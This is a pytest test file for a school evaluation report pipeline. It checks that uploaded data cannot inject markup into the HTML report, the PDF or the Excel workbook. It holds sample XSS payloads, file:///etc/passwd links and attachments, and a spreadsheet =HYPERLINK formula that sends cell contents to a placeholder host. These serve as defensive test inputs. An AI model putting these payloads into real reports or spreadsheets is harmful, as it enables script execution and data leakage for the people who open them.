"""Nothing a school uploads (or a plan or instrument says) reaches a reader's browser or the
printed PDF as markup (issue 11).

The fast tests feed the payloads through the escaping functions, the report's text and table
builders and `Shown`, rendering Markdown with nbconvert's own renderer. The slow ones run the
pipeline once on the demo programme's data with every free-text field of every table, the plan's
programme and period and a data-folder instrument's titles and item texts rewritten to carry
every payload, then check report.html (parsed, and loaded in headless Chromium) and report.pdf
(``pdfdetach``; the URLs WeasyPrint asked for). Chromium and poppler-utils are needed: on Debian
``apt-get install chromium poppler-utils`` (.ci/run installs them).
"""

from __future__ import annotations

import ast
import html
import re
import shutil
import subprocess
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import pytest
import yaml
from matplotlib.figure import Figure

from evaluation.analysis.activities import activity_log, activity_summary
from evaluation.config.instruments import Instrument
from evaluation.config.plan import load_plan
from evaluation.reporting import activities as activity_section
from evaluation.reporting import escaping as md
from evaluation.reporting import evidence, render, sections
from evaluation.reporting.headings import section
from evaluation.resources import DEMO_PLAN, INSTRUMENTS_DIR
from evaluation.steps.display import Shown

from conftest import plan_for

PAYLOADS = (
    "<script>document.title='pwned'</script>",
    "<img src=x onerror=\"document.title='pwned'\">",
    '<a rel="attachment" href="file:///etc/passwd">x</a>',
    "[link](javascript:alert(1))",
    "![x](file:///etc/passwd)",
    "</td></tr></table><script>document.title='pwned'</script>",
)
#: School names that Excel, LibreOffice or Google Sheets would run as formulas if a cell held them.
FORMULAS = ('=HYPERLINK("http://example.invalid/?leak="&A1,"Open")', "+1+1", "-2+3", "@SUM(1+1)")
#: Every payload in one value, for the fields that hold one value (the plan's programme).
ALL = " ".join(PAYLOADS)
#: Markdown contexts a value meets in the report: a paragraph, a bullet, a heading, bold, a code span.
CONTEXTS = ("{}", "- {}", "# {}", "**{}.**", "Plan: `{}`.", "Text\n\n{} and more.")


class Page(HTMLParser):
    """The elements (tag, attributes) and the text of an HTML fragment or page."""

    def __init__(self, markup: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.scripts: list[str] = []
        self.text = ""
        self._in_script = False
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))
        self._in_script = tag == "script"

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script:
            self.scripts.append(data)
        else:
            self.text += data

    @property
    def words(self) -> str:
        return " ".join(self.text.split())


def hostile_markup(page: Page) -> list[str]:
    """What in a parsed page could run a script, open a link to a file or script, or attach a file."""
    found = []
    for tag, attrs in page.elements:
        found += [f"<{tag} {name}=...>" for name in attrs if name.lower().startswith("on")]
        if "attachment" in attrs.get("rel", "").lower().split():
            found.append(f"<{tag} rel=attachment>")
        for name in ("href", "src"):
            if re.match(r"\s*(javascript|file|vbscript):", attrs.get(name, ""), re.IGNORECASE):
                found.append(f"<{tag} {name}={attrs[name]}>")
    found += [f"<script>{script[:40]}" for script in page.scripts if "pwned" in script or "alert" in script]
    return found


def rendered(markdown: str) -> Page:
    """``markdown`` as nbconvert renders a Markdown output of the report notebook, parsed."""
    from nbconvert.filters.markdown_mistune import markdown2html_mistune

    return Page(markdown2html_mistune(markdown))


# --- escaping Markdown ------------------------------------------------------------------------------


@pytest.mark.parametrize("context", CONTEXTS)
@pytest.mark.parametrize("payload", [*PAYLOADS, ALL, "a_b *c* $x$ ~~d~~ | https://e.org 1. f #g", "1. x", "- y"])
def test_an_escaped_value_renders_as_its_own_text_in_every_context(payload: str, context: str) -> None:
    markdown = md.Markdown(context).format(payload)
    page = rendered(markdown)
    assert not hostile_markup(page)
    assert payload in page.words
    # the tags are the template's only: the value added none
    assert {tag for tag, _ in page.elements} == {tag for tag, _ in rendered(md.Markdown(context).format("x")).elements}


def test_a_value_loses_its_line_breaks_and_cannot_start_a_block() -> None:
    assert md.escape("one\ntwo\r\n\n# three") == "one two \\# three"
    assert rendered(md.Markdown("- {}").format("1. x")).words == "1. x"
    assert [tag for tag, _ in rendered(md.Markdown("{}").format("===")).elements] == ["p"]


def test_ordinary_values_are_written_as_they_are() -> None:
    for value in ("School Partnership Programme (demo)", "2022-2023", "Fen Lisesi", "OO-2022-01", "TR-44-001"):
        assert md.escape(value) == value
    assert md.text("report.plan", "en", plan_file="my_plan.yaml", hash="ab12", date="30 November 2026") == (
        "Analysis plan: `my_plan.yaml` (plan hash `ab12`), produced on 30 November 2026."
    )


def test_catalogue_text_escapes_values_but_not_markdown_it_is_given() -> None:
    title = md.text("report.title", "en", programme=ALL, period="2022-2023")
    assert "<" not in title and ALL in rendered(title).words
    inner = md.text("report.units.points", "en")
    assert md.text("report.finding.p_adjusted", "en", p=md.p_text(0.0001, "en")) == (
        "p < 0.001, adjusted for the several outcomes"
    )
    assert md.Markdown("**{}**").format(inner) == f"**{inner}**"
    note = md.plural("report.notes.quarantined", 2, "tr")
    assert note.startswith("**") and isinstance(note, md.Markdown)


def test_values_in_a_code_span_cannot_close_it() -> None:
    plan = md.text("report.plan", "en", plan_file="a`<script>alert(1)</script>`b.yaml", hash="h", date="d")
    page = rendered(plan)
    assert not hostile_markup(page) and [tag for tag, _ in page.elements] == ["p", "code", "code"]


def test_a_code_block_holds_any_text() -> None:
    block = md.code_block("line\n```\n<script>alert(1)</script>\n````")
    page = rendered(block)
    assert not hostile_markup(page) and [tag for tag, _ in page.elements] == ["pre", "code"]


def test_joining_markdown_with_plain_text_escapes_the_text() -> None:
    assert md.Markdown("- ") + "<b>" == "- &lt;b&gt;"
    assert "<b>" + md.Markdown("!") == "&lt;b&gt;!"
    assert md.Markdown(", ").join(["<i>", md.Markdown("*x*")]) == "&lt;i&gt;, *x*"
    assert isinstance(md.Markdown("a") + "b", md.Markdown)
    assert type("a" + "b") is str  # plain text stays plain, and Shown refuses it


def test_markdown_is_made_from_literal_text_only() -> None:
    """``Markdown(...)`` around a value would let the value through unescaped: outside the
    escaping module, every escaping.Markdown(...) in the package wraps a string literal."""
    package = Path(md.__file__).resolve().parent.parent
    offenders = []
    for path in package.rglob("*.py"):
        if path == Path(md.__file__).resolve():
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        bare = any(  # `from evaluation.reporting.escaping import Markdown`
            isinstance(node, ast.ImportFrom)
            and node.module == "evaluation.reporting.escaping"
            and any(alias.name == "Markdown" for alias in node.names)
            for node in ast.walk(tree)
        )
        for node in ast.walk(tree):
            if not isinstance(node, ast.Call):
                continue
            ours = (
                isinstance(node.func, ast.Attribute)
                and node.func.attr == "Markdown"
                and getattr(node.func.value, "id", "") in ("md", "escaping")
            ) or (bare and isinstance(node.func, ast.Name) and node.func.id == "Markdown")
            literal = len(node.args) == 1 and isinstance(node.args[0], ast.Constant) and not node.keywords
            if ours and not literal:
                offenders.append(f"{path.relative_to(package.parent)}:{node.lineno}")
    assert not offenders


# --- what a section may show ---------------------------------------------------------------------


def test_shown_refuses_text_that_was_not_escaped() -> None:
    with pytest.raises(TypeError, match="plain text"):
        Shown(f"## {ALL}")
    with pytest.raises(TypeError, match="ReportTable"):
        Shown(pd.DataFrame({"a": [ALL]}).style)
    from IPython.display import HTML, Image

    with pytest.raises(TypeError, match="HTML"):
        Shown(HTML(ALL))
    with pytest.raises(TypeError):
        Shown(Image(url="file:///etc/passwd.png", embed=False))
    shown = Shown(md.escape(ALL), md.Markdown(""), None, pd.DataFrame({"a": [1]}), Figure())
    assert len(shown.parts) == 3 and shown.text == md.escape(ALL)


def _hostile_frame() -> pd.DataFrame:
    frame = pd.DataFrame({payload: [payload, 1.5] for payload in PAYLOADS})
    frame.index = pd.Index([ALL, PAYLOADS[0]], name=PAYLOADS[1])
    frame.columns.name = PAYLOADS[2]
    return frame


def test_a_report_table_escapes_cells_headers_index_and_names() -> None:
    table = md.ReportTable(_hostile_frame(), "tr", index=True)
    table.format(subset=[PAYLOADS[0]], escape=None).format_index(axis=0, escape=None).set_caption(ALL)
    page = Page(table.to_html())
    assert not hostile_markup(page)
    assert "&lt;script&gt;" in table.to_html() and "1,50" in page.words  # Turkish decimal comma kept
    assert sum(tag == "script" for tag, _ in page.elements) == 0


def test_a_dataframe_is_escaped_by_pandas() -> None:
    page = Page(_hostile_frame()._repr_html_())
    assert not hostile_markup(page) and not any(tag in ("script", "img", "a") for tag, _ in page.elements)


# --- the report's own pieces ---------------------------------------------------------------------


def _plan(tmp_path: Path, **changes):
    return load_plan(plan_for(tmp_path / "data", tmp_path, **changes))


def test_report_title_and_notes_escape_the_plans_programme_and_period(tmp_path: Path) -> None:
    plan = _plan(tmp_path, programme=ALL, period=ALL)
    header = sections.header(plan)
    page = rendered(header)
    assert not hostile_markup(page)
    assert [tag for tag, _ in page.elements if tag != "a"] == ["h1", "p", "code", "code"]
    assert f"{ALL}: Annual evaluation report {ALL}" in page.words
    assert isinstance(section("evidence", "en", boundary=ALL), md.Markdown)
    assert ALL in rendered(section("evidence", "en", boundary=ALL)).words


def test_report_tables_escape_data_values(tmp_path: Path) -> None:
    activities = activity_log(
        pd.DataFrame(
            {
                "partnership_id": [ALL, ALL, PAYLOADS[5]],
                "activity_no": [1, 2, 1],
                "activity_type": ALL,
                "planned_month": "2022-10",
                "status": ["done", "planned", "cancelled"],
                "reason": ["", "", ALL],
            }
        )
    )
    balance = pd.DataFrame(
        {
            "characteristic": [f"school_type={ALL}", f"pre_{ALL}"],
            "level": ["school", "student"],
            "mean_partner": [0.5, 50.0],
            "mean_control": [0.4, 49.0],
            "normalised_difference": [0.1, 0.05],
            "p_value": [0.5, 0.0001],
        }
    )
    scales = pd.DataFrame(
        {
            "instrument": ["student_climate"],
            "scale": ["belonging"],
            "wave": ["pre"],
            "role": ["student"],
            "n_items": [5],
            "n": [100],
            "alpha": [0.8],
            "alpha_ci_low": [0.7],
            "alpha_ci_high": [0.9],
            "suppressed": [False],
        }
    )
    instrument = Instrument(
        "student_climate", {"en": ALL}, "student", 1, 5, {}, (), {}, scale_titles={"belonging": {"en": ALL}}
    )
    tables = [
        sections.styled(activity_section.summary_table(activity_summary(activities), "en"), "en"),
        sections.styled(activity_section.calendar_table(activities, "en", with_partnership=True), "en"),
        sections.styled(evidence.balance_overview(balance, "en"), "en"),
        sections.styled(sections.scales_table(scales, "en", {"student_climate": instrument}), "en"),
    ]
    for table in tables:
        page = Page(Shown(table).tables[0].to_html())
        assert not hostile_markup(page)
        assert not any(tag in ("script", "img", "a") for tag, _ in page.elements)
        assert ALL in page.words


@pytest.mark.parametrize("n_partnerships", [1, 5])
def test_the_activity_section_shows_reasons_titles_and_types_as_text(n_partnerships: int) -> None:
    """The activity section (one partnership: its calendar; five: the summary and what was not
    done) with a payload in every free-text field: the reason, the title, the activity type and
    the partnership's id; the chart's alternative text is escaped too."""
    from evaluation.analysis.activities import activity_months

    ids = [f"P{number} {ALL}" for number in range(n_partnerships)]
    raw = pd.DataFrame(
        [
            (pid, no, f"{ALL} type", f"{ALL} title", month, status, held, reason)
            for pid in ids
            for no, month, status, held, reason in (
                (1, "2022-09", "done", "2022-09-14", ""),
                (2, "2022-10", "cancelled", None, f"{ALL} reason"),
                (3, "2022-11", "postponed", None, ""),
            )
        ],
        columns=["partnership_id", "activity_no", "activity_type", "title", "planned_month", "status",
                 "completed_on", "reason"],
    )  # fmt: skip
    raw["completed_on"] = pd.to_datetime(raw["completed_on"])
    log = activity_log(raw)
    parts = activity_section.section_parts(log, activity_summary(log), activity_months(log), "en")
    shown = Shown(*parts)
    assert len(shown.figures) == 1
    text = rendered(shown.text)
    assert not hostile_markup(text)
    where = f" of partnership {ids[-1]}" if n_partnerships > 1 else ""
    assert f"Activity 2{where}, {ALL} title (planned for Oct 2022): cancelled. Reason given: {ALL} reason" in (
        text.words
    )
    assert f"Activity 3{where}" in text.words and "no reason was given" in text.words
    for table in shown.tables:
        page = Page(table.to_html())
        assert not hostile_markup(page)
        assert not any(tag in ("script", "img", "a") for tag, _ in page.elements)
        assert ALL in page.words
    chart = next(part for part in shown.parts if isinstance(part, md.Chart))
    image = Page(chart._repr_html_())
    assert [tag for tag, _ in image.elements] == ["img"]
    attributes = image.elements[0][1]
    assert set(attributes) == {"src", "alt"} and attributes["src"].startswith("data:image/png;base64,")
    n = n_partnerships
    assert ids[0] in attributes["alt"]
    assert f"{n} done, 0 in part, {n} postponed, {n} cancelled, 0 still planned" in attributes["alt"]


def test_charts_draw_labels_from_the_data_as_written() -> None:
    """Chart labels are pixels (no markup), and a ``$`` in them is no maths that could stop the chart."""
    import io

    from evaluation.reporting.figures import activity_timeline

    ids = [PAYLOADS[0], "$\\foo{$", "P $x$", "P4"]
    log = pd.DataFrame(
        {
            "partnership_id": ids,
            "activity_no": 1,
            "activity_type": "joint_exam",
            "planned_month": "2022-11",
            "completed_on": ["2022-11-16", "", "2022-12-01", ""],
            "status": ["done", "planned", "done", "cancelled"],
        }
    )
    figure = activity_timeline(log, "en")  # four partnerships: one row each, named by its id
    figure.savefig(io.BytesIO(), format="png")
    assert sorted(label.get_text() for label in figure.axes[0].get_yticklabels()) == sorted(ids)


# --- rendering --------------------------------------------------------------------------------------


def test_the_page_asks_mathjax_to_leave_its_text_alone() -> None:
    page = '<html><body class="jp-Notebook" data-x="1"><p>$x$</p></body></html>'
    assert '<body class="tex2jax_ignore mathjax_ignore jp-Notebook" data-x="1">' in render._without_maths(page)
    assert '<body class="tex2jax_ignore mathjax_ignore">' in render._without_maths("<body><p>x</p></body>")


def test_attachment_links_are_taken_out_of_the_page_before_printing() -> None:
    import xml.etree.ElementTree as ET

    root = ET.fromstring(
        '<html><head><link rel="attachment" href="file:///etc/passwd"/></head><body>'
        '<a rel="nofollow Attachment" href="/etc/group">y</a><a rel="next" href="#a">z</a></body></html>'
    )
    assert render.strip_attachments(root) == 2
    assert [element.get("rel") for element in root.iter() if element.tag in ("link", "a")] == [None, "nofollow", "next"]


@pytest.mark.slow  # WeasyPrint: about 2 s
def test_the_pdf_reads_only_data_urls_and_attaches_nothing(tmp_path: Path) -> None:
    pdfdetach = _tool("pdfdetach")
    page = tmp_path / "page.html"
    page.write_text(
        '<html><head><link rel="attachment" href="file:///etc/passwd">'
        '<link rel="stylesheet" href="http://127.0.0.1:9/x.css"><style>@import url(file:///etc/hostname);'
        "p { background: url(file:///etc/hosts) }</style></head><body><p>"
        '<a rel="attachment" href="file:///etc/passwd">x</a> <img src="file:///etc/passwd"> <img src="x.png">'
        '<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9'
        'awAAAABJRU5ErkJggg=="></p></body></html>',
        encoding="utf-8",
    )
    fetcher = render.offline_fetcher()
    pdf = render.html_to_pdf(page, tmp_path / "page.pdf", url_fetcher=fetcher)
    assert _embedded_files(pdfdetach, pdf) == 0
    assert sorted(fetcher.refused) == sorted(
        [
            "http://127.0.0.1:9/x.css",
            "file:///etc/hostname",
            "file:///etc/hosts",
            "file:///etc/passwd",
            page.with_name("x.png").as_uri(),
        ]
    )
    assert [url[:5] for url in fetcher.fetched] == ["data:"]


# --- the whole pipeline on hostile data --------------------------------------------------------


def _tool(*names: str) -> str:
    """The path of the first of ``names`` on PATH; fails (never skips) naming what to install."""
    for name in names:
        found = shutil.which(name)
        if found:
            return found
    pytest.fail(
        f"{' or '.join(names)} is needed by the report's injection tests and is not installed: on Debian or "
        "Ubuntu, as root, `apt-get update && apt-get install -y --no-install-recommends chromium poppler-utils` "
        "(.ci/run does this)",
        pytrace=False,
    )


def _embedded_files(pdfdetach: str, pdf: Path) -> int:
    listed = subprocess.run([pdfdetach, "-list", str(pdf)], capture_output=True, text=True, check=True, timeout=60)
    return int(re.match(r"(\d+) embedded files", listed.stdout).group(1))


def _dom_in_chromium(page: Path, profile: Path) -> str:
    """The DOM of ``page`` after headless Chromium loaded it and ran its scripts (network off)."""
    chromium = _tool("chromium", "chromium-browser", "google-chrome")
    command = [
        chromium,
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--no-first-run",
        f"--user-data-dir={profile}",
        "--host-resolver-rules=MAP * ~NOTFOUND",  # whatever the page asked for would not leave the machine
        "--virtual-time-budget=5000",
        "--dump-dom",
        page.as_uri(),
    ]
    return subprocess.run(command, capture_output=True, text=True, check=True, timeout=120).stdout


def _rewrite(path: Path, change) -> None:
    frame = pd.read_csv(path, dtype=str, keep_default_na=False)
    change(frame)
    frame.to_csv(path, index=False)


def hostile_data(demo_data: Path, target: Path) -> Path:
    """The demo data with every payload in every free-text field of every table and in a
    data-folder instrument's title, scale titles and item texts; the English exam subject is
    renamed (the plan's outcome follows it)."""
    shutil.copytree(demo_data, target)

    def with_all(value: str) -> str:
        return f"{value} {ALL}" if value else value

    schools = pd.read_csv(target / "schools.csv", dtype=str, keep_default_na=False)
    renamed = {schools["school_id"].iloc[0]: with_all(schools["school_id"].iloc[0])}

    def rename_school(frame: pd.DataFrame) -> None:
        frame["school_id"] = frame["school_id"].replace(renamed)

    def hostile_schools(frame: pd.DataFrame) -> None:
        rename_school(frame)
        for column in ("school_name", "province", "school_type", "partnership_id"):
            frame[column] = frame[column].map(with_all)
        for row, value in enumerate(FORMULAS, start=1):  # names Excel would take for formulas
            frame.loc[row, "school_name"] = value

    def hostile_exams(frame: pd.DataFrame) -> None:
        rename_school(frame)
        frame["exam_id"] = frame["exam_id"].map(with_all)
        frame["subject"] = frame["subject"].replace({"english": with_all("english")})

    def hostile_activities(frame: pd.DataFrame) -> None:
        frame["partnership_id"] = frame["partnership_id"].map(with_all)
        frame["activity_type"] = frame["activity_type"].map(with_all)
        frame["reason"] = frame["reason"].map(with_all)

    def hostile_indicators(frame: pd.DataFrame) -> None:
        rename_school(frame)
        frame["indicator"] = frame["indicator"].map(with_all)

    _rewrite(target / "schools.csv", hostile_schools)
    _rewrite(target / "exam_results.csv", hostile_exams)
    _rewrite(target / "activities.csv", hostile_activities)
    _rewrite(target / "indicators.csv", hostile_indicators)
    _rewrite(target / "students.csv", rename_school)
    for survey in (target / "surveys").glob("*.csv"):
        _rewrite(survey, rename_school)

    definition = yaml.safe_load((INSTRUMENTS_DIR / "student_climate.yaml").read_text(encoding="utf-8"))
    definition["title"] = {language: with_all(title) for language, title in definition["title"].items()}
    for scale in definition["scales"]:
        scale["title"] = {language: with_all(title) for language, title in scale["title"].items()}
    for item in definition["items"]:
        item["text"] = {language: with_all(words) for language, words in item["text"].items()}
    (target / "instruments").mkdir()
    (target / "instruments" / "student_climate.yaml").write_text(
        yaml.safe_dump(definition, sort_keys=False, allow_unicode=True), encoding="utf-8"
    )
    return target


@pytest.fixture(scope="module")
def hostile_run(demo_data: Path, tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, list]:
    """The pipeline's one run on the hostile data, and the URL fetchers WeasyPrint was given."""
    from evaluation.pipeline import run_plan

    folder = tmp_path_factory.mktemp("hostile")
    data = hostile_data(demo_data, folder / "data")
    outcomes = yaml.safe_load(DEMO_PLAN.read_text(encoding="utf-8"))["outcomes"]
    for outcome in outcomes:
        if outcome.get("subject") == "english":
            outcome["subject"] = f"english {ALL}"
    plan = plan_for(
        data,
        folder,
        programme=f"School Partnership Programme {ALL}",
        period=f"2022-2023 {ALL}",
        on_quarantine="continue",
        subgroups=["grade", "sex", "school_type"],
        outcomes=outcomes,
        school_pages=True,  # the pages and their index show the hostile names too
    )
    fetchers = []

    def recorded():
        fetcher = original()
        fetchers.append(fetcher)
        return fetcher

    original = render.offline_fetcher
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(render, "offline_fetcher", recorded)
        out = run_plan(plan, folder / "out")
    return out, fetchers


@pytest.fixture(scope="module")
def report(hostile_run: tuple[Path, list]) -> str:
    return (hostile_run[0] / "shared" / "report.html").read_text(encoding="utf-8")


@pytest.mark.slow
def test_the_report_shows_every_payload_as_text_and_none_as_markup(report: str) -> None:
    page = Page(report)
    assert not hostile_markup(page)
    for raw in ("<script>document.title", "<img src=x", '<a rel="attachment"', "</td></tr></table><script"):
        assert raw not in report  # written only escaped (&lt;script&gt;...), even in the <title>
    words = page.words
    for where in (
        f"School Partnership Programme {ALL}: Annual evaluation report 2022-2023 {ALL}",  # title (plan)
        f"school type: science high school {ALL}",  # balance table (schools.school_type)
        f"pre-test: english {ALL}",  # balance table (exam_results.subject)
        f"Sense of belonging at school {ALL}",  # reliability table (the data folder's scale title)
        f"OO-2022-01 {ALL}",  # activities table (activities.partnership_id)
        f"school type science high school {ALL}",  # subgroup table (schools.school_type, its code's words)
    ):
        assert where in words, where
    # Nothing of the fields that never reach the report slipped in either (names, provinces, ids).
    title = html.unescape(re.search(r"<title>(.*?)</title>", report, re.DOTALL).group(1))
    assert title == f"School Partnership Programme {ALL} 2022-2023 {ALL}"


@pytest.mark.slow
def test_headless_chromium_runs_no_script_of_the_data(hostile_run: tuple[Path, list], tmp_path: Path) -> None:
    out = hostile_run[0]
    # The check itself: the same page with one payload left raw runs it (Chromium executes scripts here).
    control = tmp_path / "control.html"
    control.write_text(
        (out / "shared" / "report.html").read_text(encoding="utf-8").replace("</body>", PAYLOADS[1] + "</body>"),
        encoding="utf-8",
    )
    assert "<title>pwned</title>" in _dom_in_chromium(control, tmp_path / "profile-control")
    dom = _dom_in_chromium(out / "shared" / "report.html", tmp_path / "profile")
    assert "<title>pwned</title>" not in dom
    assert "<title>School Partnership Programme &lt;script&gt;" in dom
    assert not hostile_markup(Page(dom))


@pytest.mark.slow
def test_the_pdf_has_no_attachment_and_read_nothing_from_outside(hostile_run: tuple[Path, list]) -> None:
    out, fetchers = hostile_run
    assert _embedded_files(_tool("pdfdetach"), out / "shared" / "report.pdf") == 0
    assert len(fetchers) == 1
    assert fetchers[0].refused == []  # nothing outside was even asked for
    assert fetchers[0].fetched and all(url.startswith("data:") for url in fetchers[0].fetched)


@pytest.mark.slow
def test_the_school_pages_and_their_index_show_every_payload_as_text(hostile_run: tuple[Path, list]) -> None:
    """The pages per school and partnership of the hostile run: every file name a plain name (an id
    holding the payloads gets a counter), no markup from the data in a page or the index, each
    school's name and each partnership's id shown as written, and every page made (the payloads
    went through papermill's parameters too)."""
    out, _ = hostile_run
    folder = out / "shared" / "schools"
    schools = pd.read_csv(out.parent / "data" / "schools.csv", dtype=str, keep_default_na=False)
    names = sorted(path.name for path in folder.iterdir())
    assert len(names) == 1 + len(schools) + schools.loc[schools["partnership_id"] != "", "partnership_id"].nunique()
    for name in names:
        assert re.fullmatch(r"index\.html|(school|partnership)-[A-Za-z0-9_-]+\.html", name), name
        written = (folder / name).read_text(encoding="utf-8")
        page = Page(written)
        assert not hostile_markup(page), name
        for raw in ("<script>document.title", "<img src=x", '<a rel="attachment"', "</td></tr></table><script"):
            assert raw not in written, name
    index = Page((folder / "index.html").read_text(encoding="utf-8"))
    assert "page not made" not in index.words
    for school in schools.itertuples():
        assert school.school_name in index.words  # with the payloads, as written
    first = schools.iloc[0]
    assert first["school_id"].endswith(ALL)  # the renamed id: its page has a counter's name
    (counted,) = [name for name in names if re.fullmatch(r"school-\d+\.html", name)]
    page = Page((folder / counted).read_text(encoding="utf-8"))
    assert f"{first['school_name']} ({first['province']})" in page.words
    assert f"{first['partnership_id']}" in page.words


@pytest.mark.slow
def test_the_runs_workbook_holds_no_formula_and_shows_formula_like_names_as_text(
    hostile_run: tuple[Path, list], tmp_path: Path
) -> None:
    """results.xlsx of the hostile run, read back: no cell of any sheet is a formula (nor is there
    a formula element in the file's XML), and the school names that look like formulas are text
    cells holding the name as written, beside the school's id."""
    import zipfile

    from openpyxl import load_workbook

    out, _ = hostile_run
    path = out / "shared" / "results.xlsx"
    with zipfile.ZipFile(path) as archive:
        for member in archive.namelist():
            if member.endswith(".xml"):
                xml = archive.read(member).decode("utf-8")
                assert "<f>" not in xml and "<f " not in xml, member
    workbook = load_workbook(path)
    found = {}
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate)
                if cell.value in FORMULAS:
                    assert cell.data_type == "s", (sheet.title, cell.coordinate)
                    found.setdefault(cell.value, sheet.title)
    assert set(found) == set(FORMULAS)  # every one of them reached the workbook, as text
